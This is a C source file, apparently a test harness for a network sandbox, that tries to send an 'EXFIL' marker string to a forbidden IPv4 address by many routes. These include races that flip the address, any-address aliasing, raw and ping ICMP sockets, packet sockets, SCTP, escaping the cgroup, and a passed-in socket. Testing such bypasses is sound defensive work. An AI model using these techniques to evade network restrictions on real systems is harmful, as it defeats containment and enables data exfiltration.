/* SPDX-License-Identifier: Apache-2.0 */
/*
 * send_ways WAYS IP PORT SCRATCH: gets "EXFIL-WAY." to the forbidden IPv4 address IP in ways of
 * which a rule on addresses may not know. 127.0.0.1 and its PORT are allowed. SCRATCH is a
 * directory; a stranger hands out a TCP socket that is connected to IP at its socket "scm".
 */
#include "pass.h"

#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip_icmp.h>

#include "race.h"

#define DENIALS 20     /* of a race; then it has been stopped often enough */
#define SENDS	200000 /* of a race that nothing stops */

static struct sockaddr_in peer = { .sin_family = AF_INET };
static char text[64];

static const char *payload(const char *way)
{
	static char buf[64];

	snprintf(buf, sizeof(buf), "EXFIL-%s.", way);
	return buf;
}

static int new_socket(int family, int type, int protocol)
{
	int fd;

	before(text);
	fd = after(socket(family, type | SOCK_CLOEXEC, protocol));
	return fd;
}

static long say(int fd, const char *way)
{
	return send(fd, payload(way), strlen(payload(way)), MSG_NOSIGNAL);
}

static void connect_and_say(int fd, const void *addr, socklen_t len, const char *way)
{
	if (fd >= 0 && after(connect(fd, addr, len)) == 0)
		say(fd, way);
}

/* ------------------------------------------------------------------ memory of the address */
static void by_cold_connect(void)
{
	const void *addr = cold(&peer, sizeof(peer));

	connect_and_say(new_socket(AF_INET, SOCK_STREAM, 0), addr, sizeof(peer), "cold-connect");
}

static void by_cold_sendto(void)
{
	const void *addr = cold(&peer, sizeof(peer));
	const char *p = payload("cold-sendto");

	after(sendto(new_socket(AF_INET, SOCK_DGRAM, 0), p, strlen(p), 0, addr, sizeof(peer)));
}

/* The address alternates between the allowed and the forbidden one. */
static struct sockaddr_in *flipping(void)
{
	const uint32_t local = htonl(INADDR_LOOPBACK);
	struct sockaddr_in *addr = race_memory();

	*addr = peer;
	race_begin();
	if (race_other())
		race_flip(&addr->sin_addr, (const char *)&local, (const char *)&peer.sin_addr);
	return addr;
}

static int enough(long ret, int *denials)
{
	if (ret < 0 && errno == EPERM)
		(*denials)++;
	return *denials == DENIALS || !race_again();
}

static void by_race_connect(void)
{
	struct sockaddr_in *addr = flipping(), got;
	int denials = 0, reached = 0, fd;
	long ret;

	do {
		socklen_t len = sizeof(got);

		fd = new_socket(AF_INET, SOCK_STREAM, 0);
		ret = after(connect(fd, (struct sockaddr *)addr, sizeof(*addr)));
		if (ret == 0 && getpeername(fd, (struct sockaddr *)&got, &len) == 0 &&
		    got.sin_addr.s_addr == peer.sin_addr.s_addr)
			reached = say(fd, "race-connect") > 0;
		close(fd);
	} while (!reached && !enough(ret, &denials));
	race_end();
}

static void by_race_sendmsg(void)
{
	const char *p = payload("race-sendmsg");
	struct iovec iov = { (void *)p, strlen(p) };
	struct msghdr msg = { .msg_name = flipping(),
			      .msg_namelen = sizeof(peer),
			      .msg_iov = &iov,
			      .msg_iovlen = 1 };
	int denials = 0, sent = 0, fd = new_socket(AF_INET, SOCK_DGRAM, 0);
	long ret;

	do {
		ret = after(sendmsg(fd, &msg, 0));
		sent += ret > 0;
	} while (sent < SENDS && !enough(ret, &denials));
	race_end();
}

/* ------------------------------------------------------------------ other names of an address */
static void to_any(int family, int type, const char *way)
{
	struct sockaddr_in any = { .sin_family = AF_INET, .sin_port = peer.sin_port };
	struct sockaddr_in6 any6 = { .sin6_family = AF_INET6, .sin6_port = peer.sin_port };
	int fd = new_socket(family, type, 0);

	if (family == AF_INET)
		connect_and_say(fd, &any, sizeof(any), way);
	else
		connect_and_say(fd, &any6, sizeof(any6), way);
}

static void by_any_tcp(void)
{
	to_any(AF_INET, SOCK_STREAM, "any-tcp");
}

static void by_any_udp(void)
{
	to_any(AF_INET, SOCK_DGRAM, "any-udp");
}

static void by_any6_tcp(void)
{
	to_any(AF_INET6, SOCK_STREAM, "any6-tcp");
}

static void by_any_sendto(void)
{
	struct sockaddr_in any = { .sin_family = AF_INET, .sin_port = peer.sin_port };
	const char *p = payload("any-sendto");

	after(sendto(new_socket(AF_INET, SOCK_DGRAM, 0), p, strlen(p), 0, (struct sockaddr *)&any,
		     sizeof(any)));
}

/* From a socket that is bound to IP, no address means IP. */
static void by_bound_any(void)
{
	struct sockaddr_in any = { .sin_family = AF_INET, .sin_port = peer.sin_port },
			   own = { .sin_family = AF_INET, .sin_addr = peer.sin_addr };
	int fd = new_socket(AF_INET, SOCK_STREAM, 0);

	must(bind(fd, (struct sockaddr *)&own, sizeof(own)), "bind");
	connect_and_say(fd, &any, sizeof(any), "bound-any");
}

/* ------------------------------------------------------------------ other sockets */
static void icmp_to(int type, const char *way, int connected)
{
	struct icmphdr icmp = { .type = ICMP_ECHO };
	char packet[sizeof(icmp) + 64];
	const char *p = payload(way);
	int fd = new_socket(AF_INET, type, IPPROTO_ICMP);

	if (fd < 0)
		return;
	memcpy(packet, &icmp, sizeof(icmp));
	memcpy(packet + sizeof(icmp), p, strlen(p));
	if (!connected)
		after(sendto(fd, packet, sizeof(icmp) + strlen(p), 0, (struct sockaddr *)&peer,
			     sizeof(peer)));
	else if (after(connect(fd, (struct sockaddr *)&peer, sizeof(peer))) == 0)
		after(send(fd, packet, sizeof(icmp) + strlen(p), 0));
}

static void by_raw_sendto(void)
{
	icmp_to(SOCK_RAW, "raw-sendto", 0);
}

static void by_raw_connected(void)
{
	icmp_to(SOCK_RAW, "raw-connected", 1);
}

static void by_ping_sendto(void)
{
	icmp_to(SOCK_DGRAM, "ping-sendto", 0);
}

static void by_ping_connected(void)
{
	icmp_to(SOCK_DGRAM, "ping-connected", 1);
}

static void by_packet_socket(void)
{
	struct sockaddr_ll to = { .sll_family = AF_PACKET,
				  .sll_protocol = htons(0x88b5), /* for local experiments */
				  .sll_ifindex = if_nametoindex("lo"),
				  .sll_halen = ETH_ALEN };
	char frame[64] = "";
	int fd = new_socket(AF_PACKET, SOCK_DGRAM, 0);

	strcpy(frame, payload("packet-socket"));
	after(sendto(fd, frame, sizeof(frame), 0, (struct sockaddr *)&to, sizeof(to)));
}

static void by_udplite(void)
{
	connect_and_say(new_socket(AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE), &peer, sizeof(peer),
			"udplite");
}

static void by_sctp(void)
{
	connect_and_say(new_socket(AF_INET, SOCK_STREAM, IPPROTO_SCTP), &peer, sizeof(peer),
			"sctp");
}

/* No further: on a virtual machine a connection would leave it. */
static void by_vsock(void)
{
	truth->got = new_socket(AF_VSOCK, SOCK_STREAM, 0) >= 0;
}

/* ------------------------------------------------------------------ other places, other people */
static void by_cgroup_left(void)
{
	const char *dir = getenv("LEAVE_TO");
	char file[PATH_MAX];
	int fd;

	snprintf(file, sizeof(file), "%s/cgroup.procs", dir ? dir : "");
	fd = open(file, O_WRONLY | O_CLOEXEC);
	if (fd < 0 || write(fd, "0", 1) != 1)
		die(file);
	connect_and_say(new_socket(AF_INET, SOCK_STREAM, 0), &peer, sizeof(peer), "cgroup-left");
}

static void by_scm_connected(void)
{
	int fd = stranger_fd();

	before("");
	after(say(fd, "scm-connected"));
}

static const struct way ways[] = {
	{ "cold-connect", "net.connect", by_cold_connect },
	{ "cold-sendto", "net.send", by_cold_sendto },
	{ "race-connect", "net.connect", by_race_connect },
	{ "race-sendmsg", "net.send", by_race_sendmsg },
	{ "any-tcp", "net.connect", by_any_tcp },
	{ "any-udp", "net.connect", by_any_udp },
	{ "any6-tcp", "net.connect", by_any6_tcp },
	{ "any-sendto", "net.send", by_any_sendto },
	{ "bound-any", "net.connect", by_bound_any },
	{ "raw-sendto", "net.send", by_raw_sendto },
	{ "raw-connected", "net.connect", by_raw_connected },
	{ "ping-sendto", "net.send", by_ping_sendto },
	{ "ping-connected", "net.connect", by_ping_connected },
	{ "packet-socket", "net.socket", by_packet_socket },
	{ "udplite", "net.connect", by_udplite },
	{ "sctp", "net.connect", by_sctp },
	{ "vsock", "net.socket", by_vsock },
	{ "cgroup-left", "net.connect", by_cgroup_left },
	{ "scm-connected", "none", by_scm_connected },
};

#define N_WAYS (sizeof(ways) / sizeof(ways[0]))

int main(int argc, char **argv)
{
	if (argc == 2 && !strcmp(argv[1], "list"))
		return run_ways(ways, N_WAYS, "list");
	if (argc != 5 || inet_pton(AF_INET, argv[2], &peer.sin_addr) != 1) {
		fprintf(stderr, "usage: send_ways list|WAY[,WAY...] IP PORT SCRATCH\n");
		return 2;
	}
	peer.sin_port = htons(atoi(argv[3]));
	snprintf(text, sizeof(text), "%s:%s", argv[2], argv[3]);
	snprintf(scratch, sizeof(scratch), "%s", argv[4]);
	return run_ways(ways, N_WAYS, argv[1]);
}
